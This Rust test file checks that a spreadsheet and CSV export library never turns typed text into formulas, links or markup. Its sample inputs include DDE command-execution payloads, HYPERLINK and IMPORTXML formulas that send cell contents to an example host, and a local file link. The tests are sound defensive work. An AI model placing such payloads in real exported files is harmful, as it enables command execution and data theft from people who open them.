//! Rows T1 and T5 of the catalogue: typed text is never a formula, a link or markup.

use calamine::DataType;
use plan_export::csv;
use plan_export::sheet::{self, Cell, Column, Sheet};
use plan_export::text::clean;

use crate::support::{
    parts, read_back, read_csv, sheet_of, typed_everywhere, without_figures, workbook,
};

/// Text a spreadsheet may take for a formula, each with its name.
const FORMULAS: [(&str, &str); 30] = [
    ("equals", "=1+1"),
    ("a command of the old kind", "=cmd|'/c calc'!A1"),
    ("plus", "+1"),
    ("minus", "-1"),
    ("at", "@SUM(A1:A9)"),
    ("tab", "\t=1+1"),
    ("carriage return", "\r=1+1"),
    ("line feed", "\n=1+1"),
    ("after a space", " =1+1"),
    ("after a no-break space", "\u{a0}=1+1"),
    ("after a line feed inside the cell", "a line\n=1+1"),
    (
        "after a line break of Windows inside the cell",
        "a line\r\n+cmd",
    ),
    ("plus and a command", "+cmd|' /C calc'!A0"),
    ("minus, numbers and a command", "-2+3+cmd|' /C calc'!A0"),
    ("at and a command", "@SUM(1+1)*cmd|' /C calc'!A0"),
    (
        "a link",
        "=HYPERLINK(\"http://example.org?x=\"&A1,\"Open\")",
    ),
    (
        "a request for a table",
        "=IMPORTXML(CONCAT(\"http://example.org\",A1),\"//a\")",
    ),
    ("a request", "=WEBSERVICE(\"http://example.org\")"),
    (
        "a function of data exchange",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
    ),
    ("quotes and a comma", "=\"a\",=1+1"),
    ("after a byte order mark", "\u{feff}=1+1"),
    ("after a space without width", "\u{200b}=1+1"),
    ("after a mark that turns the direction", "\u{202e}=1+1"),
    ("wide equals", "＝1+1"),
    ("wide at", "＠SUM(A1)"),
    ("wide minus", "－1+1"),
    ("wide plus", "＋1"),
    ("after a vertical tab", "\u{b}=1+1"),
    ("after a nought", "\u{0}@A1"),
    ("a telephone number", "+44 20 7946 0000"),
];

/// Text that a workbook could take for a link, markup or an escape.
const MARKUP: [&str; 10] = [
    "http://example.org",
    "mailto:someone@example.org",
    "internal:Sheet1!A1",
    "file:///C:/secret.txt",
    "a ]]> b",
    "&amp; & <b>bold</b>",
    "<r><t>rich</t></r>",
    "<r>not & closed</r>",
    "_x0041_ and _x005F_x0041_",
    "{=SUM(A1)}",
];

#[test]
fn t1_t5_no_typed_text_is_a_formula_or_a_link_in_a_workbook() {
    let texts = FORMULAS.iter().map(|(name, words)| (*name, *words));
    for (name, words) in texts.chain(MARKUP.map(|it| (it, it))) {
        let draft = typed_everywhere(words);
        let parts = parts(&workbook(&sheet::of(&without_figures(&draft))));
        for (path, part) in &parts {
            assert!(
                !part.contains("<f>") && !part.contains("<f "),
                "{name}: {path}"
            );
            assert!(!part.contains("<hyperlink"), "{name}: {path}");
            assert!(
                !path.contains("externalLink") && !path.contains("calcChain"),
                "{name}"
            );
        }
    }
}

#[test]
fn t1_t5_every_text_is_read_back_from_a_workbook_as_it_was_typed() {
    let texts = FORMULAS.iter().map(|(_, words)| *words);
    for words in texts.chain(MARKUP) {
        let read = read_back(&workbook(&[sheet_of("Words", &[words])]));
        let cell = read[0].1[1][0].get_string().unwrap();
        assert_eq!(cell, clean(words), "{words}");
    }
}

#[test]
fn a_cell_that_may_be_a_formula_stays_text_when_somebody_edits_it() {
    let with_prefix = |words| {
        let parts = parts(&workbook(&[sheet_of("Words", &[words])]));
        parts["xl/styles.xml"].contains("quotePrefix=\"1\"")
    };
    assert!(with_prefix("=1+1"));
    assert!(!with_prefix("one and one"));
}

#[test]
fn t1_every_text_that_may_be_a_formula_has_an_apostrophe_in_a_csv() {
    for (name, words) in FORMULAS {
        let read = read_csv(&csv::write(&sheet_of("words", &[words])));
        assert_eq!(read[1][0], format!("'{}", clean(words)), "{name}");
    }
}

#[test]
fn t1_no_cell_of_the_csv_files_of_a_plan_may_be_a_formula() {
    for (name, words) in FORMULAS {
        let draft = typed_everywhere(words);
        let summary = without_figures(&draft);
        for sheet in [
            sheet::tidy::scores(&summary),
            sheet::tidy::figures(&summary),
            sheet::tidy::actions(&summary),
            sheet::tidy::measures(&summary),
            sheet::tidy::thread(&summary),
        ] {
            let read = read_csv(&csv::write(&sheet));
            let cells = read.iter().flatten();
            for cell in cells.filter(|it| it.parse::<f64>().is_err()) {
                let begins = cell.trim_start();
                assert!(!begins.starts_with(['=', '+', '-', '@']), "{name}: {cell}");
            }
        }
    }
}

#[test]
fn t1_a_number_below_zero_stays_a_number() {
    let sheet = Sheet {
        name: "numbers",
        title: "Numbers".to_owned(),
        columns: vec![Column::number("Number", "number", 9)],
        rows: vec![
            vec![Cell::Number(-4.5)],
            vec![Cell::Number(1e21)],
            vec![Cell::Number(f64::NAN)],
        ],
    };
    let read = read_csv(&csv::write(&sheet));
    assert_eq!(read[1..], [["-4.5"], ["1000000000000000000000"], [""]]);
    let read = read_back(&workbook(&[sheet]));
    assert_eq!(read[0].1[1][0].get_float(), Some(-4.5));
}
